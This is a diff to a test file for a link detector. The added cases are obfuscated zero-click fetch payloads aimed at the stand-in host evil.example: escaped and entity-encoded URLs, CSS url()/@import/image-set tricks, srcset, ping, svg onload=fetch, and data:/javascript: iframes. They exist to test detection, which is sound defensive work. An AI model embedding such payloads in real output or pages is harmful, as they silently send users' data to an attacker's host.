@@ -40,6 +40,24 @@ describe('findLinks', () => {
     `![${'a '.repeat(900)}\`]\`](https://evil.example/p)`,
     `<style>p { background: url(${' '.repeat(20)}"https://evil.example/p") }</style>`,
     '[more](https://evil.example/?q=[EMAIL_1])',
+    '![a](https\\://evil.example/p)',
+    '![a](\\/\\/evil.example/p)',
+    '![a](https&colon;//evil.example/p)',
+    '<img src="https&colon;&sol;&sol;evil.example">',
+    '<img src="ht\ttps://evil.example/p">',
+    '<img src="ht&Tab;tps://evil.example/p">',
+    `<p style="background: url(${' '.repeat(30)}https://evil.example/p)">`,
+    `p { background: url(${' '.repeat(30)}https://evil.example/p) }`,
+    'p { background: url(/**/"https://evil.example/p") }',
+    '@import/**/ /* a */"https://evil.example/s.css"',
+    'p { background: image-set("https://evil.example/p" 1x) }',
+    'p { background: -webkit-image-set("a.png" type("image/png"), "https://evil.example/p" 2x) }',
+    '<style>@namespace "https://evil.example/p"</style>',
+    '<svg onload=fetch("//evil.example")>',
+    '<a ping="https://evil.example/p" href="#">a</a>',
+    '<img data-src="https://evil.example/p">',
+    '<img srcset="a.png 1x,//evil.example/p 2x">',
+    '<svg><image><set attributeName="href" to="https://evil.example/p"/></image></svg>',
     'https://evil.example/%5BCARD_1%5D',
   ])('says what is fetched without a click in %j', (text) => {
     expect(linksOf(text)).toEqual(['FETCHED_LINK evil.example']);
@@ -59,6 +77,33 @@ describe('findLinks', () => {
     ['https://user@bücher.example/', 'xn--bcher-kva.example'],
   ])('says where a click leads to in %j', (text, host) => {
     expect(linksOf(text)).toEqual([`LINK ${host}`]);
+  });
+
+  it.each([
+    '<iframe src="data:text/html;base64,PHNjcmlwdD4=">',
+    '<iframe src=" da\nta:text/html,hello">',
+    "<object data='data:text/html,hello'>",
+    '<script src=data:text/javascript,alert(1)></script>',
+    '<iframe src="javascript:alert(1)">',
+  ])('takes a document in an address for a fetched one without a host in %j', (text) => {
+    expect([...new Set(linksOf(text))]).toEqual(['FETCHED_LINK ']);
+  });
+
+  it('leaves an image that is in its address', () => {
+    expect(linksOf('<img src="data:image/png;base64,iVBORw0KGgo=">')).toEqual([]);
+  });
+
+  it.each(['https://ok.example\\.evil.example/p', 'https://evil.example\\.ok.example/p'])(
+    'tells no host for %j, in which a backslash is a slash for some readers',
+    (address) => {
+      expect(linksOf(`![a](${address})`)).toEqual(['FETCHED_LINK ']);
+    },
+  );
+
+  it('finds the host behind a line break that a browser drops', () => {
+    expect(linksOf('<img src="https://ok.example\n.evil.example/p">')).toContain(
+      'FETCHED_LINK ok.example.evil.example',
+    );
   });
 
   it('says what is fetched when its text is a link', () => {
